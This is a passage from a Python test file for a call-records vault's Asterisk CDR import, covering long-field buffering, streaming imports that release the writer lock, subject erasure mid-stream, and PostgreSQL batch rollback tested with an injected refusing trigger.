    """Issue 28: records of 2 KB and more (two side fields of 1 000
    characters) fill the read-ahead's shared storage before its 512
    records, so windows end early; every record is stored whole and
    under its caller, and its fields read back as written (a sample at
    every position of a window: storage shared wrongly would show a
    neighbour's)"""
    with TempDir() as tmp:
        d = new_vault(tmp)
        lines, per_caller, _ = many_calls(1000, 7, 1000, long_fields=True)
        path = os.path.join(tmp, "Master.csv")
        open(path, "w").write("\n".join(lines) + "\n")
        r, rep = import_master(d, path)
        expect(r.rc == 0 and (rep["read"], rep["imported"], rep["rejected"],
               rep["fields_dropped"]) == (1001, 1000, 0, 0), (r, rep))
        started = {}
        for k in range(7):
            calls = listing(d, "--phone", f"+49 30 5550{k:03d}")
            expect(len(calls) == per_caller[k], (k, len(calls)))
            expect(len({c["subject"] for c in calls}) == 1, k)
            started.update({c["started"]: c["interaction"] for c in calls})
        for i in list(range(0, 1000, 9)) + [999]:
            when = time.strftime("%Y-%m-%dT%H:%M:%S.000Z",
                                 time.gmtime(1793600000 + i * 7))
            show = json.loads(ok("interaction", "show", "--data", d,
                                 str(started[when])).out)
            expect(show["fields"].get("lastdata") ==
                   long_value(i, "lastdata") and
                   show["fields"].get("userfield") == long_value(i, "user"),
                   (i, {k: v[:12] for k, v in show["fields"].items()}))
        ok("audit", "verify", "--data", d)


def wait_for(what, cond, seconds=20):
    """Poll cond until it holds; fail naming what otherwise."""
    end = time.monotonic() + seconds
    while not cond():
        expect(time.monotonic() < end, f"no {what} after {seconds} s")
        time.sleep(0.1)


@test
def a_quiet_stream_holds_nothing_back():
    """Issue 28 (found with it): an import from a stream that has no more
    to give yet commits what it has and lets go of the writers' lock
    while it waits, so the records are there and other writers (a user
    added, an erasure) go through at once. After the caller is erased,
    their later calls in the same stream are filed under a new person
    and read back (on PostgreSQL with the keys the import keeps across
    its transactions)"""
    with TempDir() as tmp:
        d = new_vault(tmp)
        fifo = os.path.join(tmp, "feed")
        os.mkfifo(fifo)
        imp = subprocess.Popen([BIN, "import", "cdr", "--data", d,
                                "--format", "asterisk-csv", fifo],
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        feed = open(fifo, "w")
        lines = many_calls(6, 1, 1000)[0][1:]  # its first line twice
        feed.write("\n".join(lines[:3]) + "\n")
        feed.flush()
        wait_for("records of the quiet stream", lambda: json.loads(
            ok("status", "--data", d).out)["interactions"] == 3)
        t = time.monotonic()
        ok("user", "add", "--data", d, "--logon", "A0100", "--extension",
           "100")
        expect(time.monotonic() - t < 3, "the user waited for the import")
        first = listing(d, "--phone", "+49 30 5550000")
        expect(len(first) == 3, first)
        ok("subject", "erase", "--data", d, str(first[0]["subject"]),
           "--reason", "objection")
        feed.write("\n".join(lines[3:]) + "\n")
        feed.close()
        out, err = imp.communicate(timeout=60)
        expect(imp.returncode == 0, err)
        rep = json.loads(out)
        expect((rep["read"], rep["imported"]) == (6, 6), rep)
        later = listing(d, "--phone", "+49 30 5550000")
        expect(len(later) == 3 and
               {c["subject"] for c in later} != {first[0]["subject"]} and
               len({c["subject"] for c in later}) == 1, later)
        ok("interaction", "show", "--data", d, str(later[0]["interaction"]))
        ok("audit", "verify", "--data", d)


@test
def postgresql_refused_row_fails_its_batch_whole():
    """Issue 28: on PostgreSQL an import sends its rows without waiting
    for each answer. A row the database refuses (here a trigger refuses
    the statistics row of the 401st call) fails its batch as a whole: the
    import stops with an error, no record is left half written, the
    audit chain verifies, and the next run stores the rest"""
    if not ON_PG:
        return
    with TempDir() as tmp:
        d = new_vault(tmp)
        lines, _, _ = many_calls(700, 23, 50)
        path = os.path.join(tmp, "Master.csv")
        open(path, "w").write("\n".join(lines) + "\n")
        refused = (1793600000 + 400 * 7) * 1000
        db_rows(d, "CREATE FUNCTION refuse() RETURNS trigger LANGUAGE "
                "plpgsql AS $$ BEGIN IF NEW.ts_ms = " + str(refused) +
                " THEN RAISE EXCEPTION 'refused'; END IF; RETURN NEW; END "
                "$$; CREATE TRIGGER refuse BEFORE INSERT ON traffic_stat "
                "FOR EACH ROW EXECUTE FUNCTION refuse()")
        r = cx("import", "cdr", "--data", d, "--format", "asterisk-csv", path)
        kept = db_rows(d, "SELECT count(*) FROM interaction")[0][0]
        stats = db_rows(d, "SELECT count(*) FROM traffic_stat")[0][0]
        expect(kept == stats and kept < 400, (kept, stats))
        # The count it gives is of the batches kept.
        fails(r, 1, f"stopped after {kept} records: internal error")
        expect(db_rows(d, "SELECT count(*) FROM interaction WHERE "
                       "started_ms = ?", (refused,)) == [(0,)], refused)
        ok("audit", "verify", "--data", d)
        db_rows(d, "DROP TRIGGER refuse ON traffic_stat; DROP FUNCTION "
                "refuse()")
        r, rep = import_master(d, path)
        expect(r.rc == 0 and rep["imported"] == 700 - kept and
               rep["duplicates"] == 14 + kept, rep)
        ok("audit", "verify", "--data", d)


if __name__ == "__main__":
    main()
